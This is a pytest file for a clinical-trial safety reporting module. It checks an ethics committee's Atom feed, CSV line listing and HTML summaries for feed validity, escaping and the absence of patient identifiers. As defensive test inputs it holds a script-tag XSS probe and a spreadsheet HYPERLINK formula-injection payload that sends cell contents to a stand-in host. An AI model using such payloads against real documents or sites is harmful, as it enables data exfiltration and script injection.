"""The ethics committee's documents: Atom 1.0 feed (RFC 4287 rules), CSV and HTML summary, page templates."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET

import pytest
import report_fixtures as fx

from safety.reports import LISTING_COLUMNS, Report, build_report
from streams.web.ethics import atom_feed, entry_id, summary_csv, summary_html

A = "{http://www.w3.org/2005/Atom}"
RFC3339 = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?(Z|[+-]\d\d:\d\d)$")


def _report(acks: bool = True, alerts: list | None = None):  # type: ignore[no-untyped-def,type-arg]
    return build_report(
        fx.events(),
        fx.alerts() if alerts is None else alerts,
        fx.acks() if acks else [],
        study_id=fx.STUDY,
        generated_at=fx.GENERATED_AT,
    )


def _feed(**kw: object) -> ET.Element:
    return ET.fromstring(atom_feed(_report(**kw)).encode("utf-8"))  # type: ignore[arg-type]


def test_feed_has_the_elements_atom_requires() -> None:
    feed = _feed()
    assert feed.tag == f"{A}feed"
    for name in ("id", "title", "updated"):
        assert len(feed.findall(f"{A}{name}")) == 1, name
    assert feed.find(f"{A}author/{A}name") is not None and feed.find(f"{A}author/{A}name").text  # type: ignore[union-attr]
    assert RFC3339.match(feed.findtext(f"{A}updated") or "")
    assert (feed.findtext(f"{A}id") or "").startswith("urn:uuid:")


def test_every_entry_has_id_title_updated_and_text_content() -> None:
    entries = _feed().findall(f"{A}entry")
    assert entries
    for entry in entries:
        for name in ("id", "title", "updated"):
            assert len(entry.findall(f"{A}{name}")) == 1, name
        assert RFC3339.match(entry.findtext(f"{A}updated") or "")
        assert RFC3339.match(entry.findtext(f"{A}published") or "")
        content = entry.find(f"{A}content")
        assert content is not None and content.get("type") == "text" and "AA-00" in (content.text or "")
    ids = [e.findtext(f"{A}id") for e in entries]
    assert len(ids) == len(set(ids))


def test_feed_has_one_entry_per_sae_susar_dlt_and_stopping_alert() -> None:
    kinds = sorted(
        c.get("term")
        for e in _feed().findall(f"{A}entry")
        for c in e.findall(f"{A}category")
        if not (c.get("term") or "").startswith("status:")
    )
    assert kinds == ["DLT", "DLT", "DLT", "SAE", "SAE", "STOPPING_BOUNDARY", "SUSAR"]


def test_feed_ids_are_stable_across_restarts_and_derived_from_alert_ids() -> None:
    first = [e.findtext(f"{A}id") for e in _feed().findall(f"{A}entry")]
    second = [e.findtext(f"{A}id") for e in _feed().findall(f"{A}entry")]
    assert first == second
    sae = fx.alerts()[0]["alert_id"]
    assert entry_id(sae) in first
    assert entry_id(sae) == entry_id(sae) and entry_id(sae) != entry_id(sae + "x")
    assert _feed().findtext(f"{A}id") == _feed(acks=False).findtext(f"{A}id")


def test_an_acknowledgement_and_a_submission_move_the_entrys_updated_time() -> None:
    sae = entry_id(fx.alerts()[0]["alert_id"])

    def updated(feed: ET.Element) -> str:
        entry = next(e for e in feed.findall(f"{A}entry") if e.findtext(f"{A}id") == sae)
        return entry.findtext(f"{A}updated") or ""

    assert updated(_feed(acks=False)) == fx.alerts()[0]["raised_at"]
    assert updated(_feed()) == fx.acks()[1]["at"]  # the submission, 10 h after raising


def test_a_withdrawn_dlt_stays_in_the_feed_marked_withdrawn() -> None:
    entries = _feed().findall(f"{A}entry")
    withdrawn = [e for e in entries if any(c.get("term") == "status:withdrawn" for c in e.findall(f"{A}category"))]
    assert len(withdrawn) == 1
    assert "AA-002" in (withdrawn[0].findtext(f"{A}title") or "")
    assert "Withdrawn" in (withdrawn[0].findtext(f"{A}content") or "")


def test_feed_without_alerts_is_still_valid_and_dated_by_generated_at() -> None:
    feed = _feed(alerts=[])
    assert feed.findall(f"{A}entry") == []
    assert feed.findtext(f"{A}updated") == fx.GENERATED_AT.isoformat()


def test_feed_links_to_itself_when_served() -> None:
    doc = ET.fromstring(atom_feed(_report(), base_url="http://127.0.0.1:6066/").encode())
    self_link = [link for link in doc.findall(f"{A}link") if link.get("rel") == "self"]
    assert self_link and self_link[0].get("href") == "http://127.0.0.1:6066/feeds/ethics.atom"


def test_csv_opens_with_the_line_listing_header() -> None:
    rows = list(csv.reader(io.StringIO(summary_csv(_report()))))
    assert rows[0] == list(LISTING_COLUMNS)
    assert rows[0][:5] == ["kind", "alert_id", "subject_id", "study_day", "term"]
    assert len(rows) == 1 + 3
    first = dict(zip(rows[0], rows[1], strict=True))
    assert (first["subject_id"], first["kind"], first["seriousness"], first["expectedness"]) == (
        "AA-001",
        "SAE",
        "hospitalization",
        "unexpected",
    )


def test_html_summary_shows_counts_and_escapes_text() -> None:
    alerts = fx.alerts()
    alerts[5] = {**alerts[5], "ctcae_term": "<script>alert(1)</script>"}
    html = summary_html(_report(alerts=alerts))
    assert "<script>" not in html and "&lt;script&gt;" in html
    assert 'data-testid="subjects-infused">3<' in html
    assert "9.4% – 99.2%" in html


# ----------------------------------------------------------------------------------------------------
# One template environment, one escaping policy (streams/web/templating.py)
# ----------------------------------------------------------------------------------------------------

SCRIPT = "<script>alert(1)</script>"


def _hostile_report() -> Report:
    """A report whose subject code and coded term try to inject markup."""
    alerts = fx.alerts()
    for alert in alerts:
        if alert["kind"] in ("SAE", "SUSAR"):
            alert["ctcae_term"] = SCRIPT
        if alert["subject_id"] == "AA-001":
            alert["subject_id"] = f"AA-001{SCRIPT}"
    return _report(alerts=alerts)


def test_a_subject_code_or_term_holding_a_script_is_escaped_on_every_html_page() -> None:
    from streams.web import views

    report = _hostile_report()
    live = views.Links.live_for(role="pi")
    for html in (
        views.overview_page(report, live),
        views.alerts_page(report, live),
        views.overview_page(report, views.Links.static()),
        summary_html(report),
    ):
        assert "<script>alert" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_a_subject_code_or_term_holding_a_script_is_escaped_in_the_atom_feed() -> None:
    text = atom_feed(_hostile_report(), base_url="http://127.0.0.1:6066/")
    assert "<script>" not in text
    doc = ET.fromstring(text.encode())
    titles = [e.findtext(f"{A}title") or "" for e in doc.findall(f"{A}entry")]
    assert any(f"AA-001{SCRIPT}" in t and t.count(SCRIPT) == 2 for t in titles)  # read back as the text it was
    contents = [e.findtext(f"{A}content") or "" for e in doc.findall(f"{A}entry")]
    assert any(f"术语 / Term: {SCRIPT}" in c for c in contents)


def test_html_svg_and_atom_templates_are_autoescaped_and_only_markup_passes_as_it_is() -> None:
    from markupsafe import Markup

    from streams.web.templating import ENVIRONMENT, render

    selects = ENVIRONMENT.autoescape
    assert callable(selects)
    assert all(selects(name) for name in ("page.html", "chart.svg", "ethics.atom", "feed.xml"))
    text = render("refusal.html", status=403, message=Markup("<b>ok</b>") + "<i>")
    assert "<b>ok</b>&lt;i&gt;" in text


def test_a_template_variable_the_caller_does_not_pass_fails_the_render_naming_it() -> None:
    from jinja2 import UndefinedError

    from streams.web.templating import render

    with pytest.raises(UndefinedError, match="'message' is undefined"):
        render("refusal.html", status=403)


def test_every_template_compiles() -> None:
    from streams.web.templating import ENVIRONMENT

    names = ENVIRONMENT.list_templates()
    assert {"layout.html", "overview.html", "ack_link.html", "ethics.atom", "lab.svg"} <= set(names)
    for name in names:
        ENVIRONMENT.get_template(name)


# ----------------------------------------------------------------------------------------------------
# No identifiers (README) and CSV injection (OWASP)
# ----------------------------------------------------------------------------------------------------


def _phi_report():  # type: ignore[no-untyped-def]
    import phi_fixtures as phi

    from streams.rulefiles import load_ruleset

    rules = load_ruleset()
    return build_report(phi.events(), phi.alerts(rules), study_id=phi.STUDY, generated_at=fx.GENERATED_AT, tz=rules.tz)


def test_feed_csv_and_html_summary_carry_no_identifier_of_the_events() -> None:
    import phi_fixtures as phi

    report = _phi_report()
    for text in (atom_feed(report, base_url="http://127.0.0.1:6066/"), summary_csv(report), summary_html(report)):
        assert phi.found(text) == []


def test_death_and_uncoded_entries_have_a_term_and_a_grade_in_the_feed() -> None:
    doc = ET.fromstring(atom_feed(_phi_report()).encode())
    titles = sorted(e.findtext(f"{A}title") or "" for e in doc.findall(f"{A}entry"))
    assert [t for t in titles if "D17" in t] == [
        "DLT AA-901 D17 Death NOS G5",
        "SAE AA-901 D17 Death NOS G5",
        "SUSAR AA-901 D17 Death NOS G5",
    ]
    assert "SAE AA-901 D2 uncoded term G3" in titles
    contents = [e.findtext(f"{A}content") or "" for e in doc.findall(f"{A}entry")]
    assert any("术语 / Term: Death NOS\n分级 / Grade: 5" in c for c in contents)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_csv_cell_can_start_a_formula(start: str) -> None:
    payload = f'{start}HYPERLINK("http://x.example/?"&A1,"open")'
    alerts = fx.alerts()
    for alert in alerts:
        if alert["kind"] in ("SAE", "SUSAR"):
            alert["ctcae_term"] = payload
    rows = list(csv.reader(io.StringIO(summary_csv(_report(alerts=alerts)))))
    terms = [dict(zip(rows[0], row, strict=True))["term"] for row in rows[1:]]
    assert terms and terms == ["'" + payload] * len(terms)


def test_every_csv_cell_is_quoted_and_numbers_stay_numbers() -> None:
    alerts = fx.alerts()
    first = next(a for a in alerts if a["kind"] == "SAE")
    first["study_day"] = -3  # a screening SAE: a negative number is data, not a formula
    text = summary_csv(_report(alerts=alerts))
    lines = text.split("\r\n")[:-1]
    assert all(line.startswith('"') and line.endswith('"') for line in lines)
    days = [dict(zip(LISTING_COLUMNS, row, strict=True))["study_day"] for row in csv.reader(io.StringIO(text))]
    assert "-3" in days


def test_the_html_summary_states_data_completeness_per_visit(ruleset) -> None:  # type: ignore[no-untyped-def]
    report = build_report(
        fx.events(), fx.alerts(), study_id=fx.STUDY, generated_at=fx.GENERATED_AT, schedule=ruleset.protocol.schedule
    )
    html = summary_html(report)
    assert 'data-testid="data-completeness"' in html
    assert report.completeness, "the fixture's subjects have visits due"
    first = report.completeness[0]
    cells = f"<td>{first.group}</td><td>{first.visit_day}</td><td>{first.due}</td><td>{first.complete}</td>"
    assert cells in html


def test_the_overview_says_when_and_at_which_x_of_n_the_boundary_was_crossed() -> None:
    from safety.reports import crossing
    from streams.web import views

    report = _report()
    first = crossing(report)
    assert report.overview.stopping_boundary_crossed and first is not None
    html = views.overview_page(report, views.Links.live_for(role="safety_officer"))
    cell = re.search(r'data-testid="stopping-crossed"[^>]*>([^<]*)<', html)
    assert cell is not None and cell[1].startswith("是 / YES: ")
    assert f"{first.x} / {first.n} DLT" in cell[1]
